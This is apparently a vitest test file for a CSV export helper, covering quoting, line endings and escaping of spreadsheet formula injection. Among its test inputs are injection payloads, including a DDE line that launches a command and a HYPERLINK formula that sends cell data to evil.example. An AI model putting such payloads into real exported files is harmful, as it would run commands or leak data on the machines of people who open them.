import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord } from '@/lib/jobs/export-formats';

const read = (csv: string) => parse(csv, { record_delimiter: '\r\n' });

describe('csvRecord', () => {
  it('round-trips any text', () => {
    const text = fc
      .string({ unit: 'grapheme' })
      .filter((cell) => !/^[=+\-@\t\r\n＝＋－＠]/.test(cell));
    const rows = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 50 });
    fc.assert(
      fc.property(rows, (cells) => {
        expect(read(cells.map(csvRecord).join(''))).toEqual(cells);
      }),
      { numRuns: 20 },
    );
  });

  it('quotes commas, quotes and line breaks, and ends with CRLF', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'two\nlines', 'plain'])).toBe(
      '"a,b","say ""hi""","two\nlines",plain\r\n',
    );
  });

  it('writes null as an empty cell and numbers verbatim', () => {
    expect(csvRecord([null, -1, 2.5, true])).toBe(',-1,2.5,true\r\n');
  });

  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('escapes the formula %j', (cell) => {
    expect(read(csvRecord([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
  });

  it('never starts a cell with a formula character', () => {
    const first = fc.constantFrom(...'=+-@\t\r\n"\', ');
    fc.assert(
      fc.property(first, fc.string(), (begin, rest) => {
        const record = csvRecord([begin + rest, 'x']).replace(/^"/, '');
        expect(record).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });
});
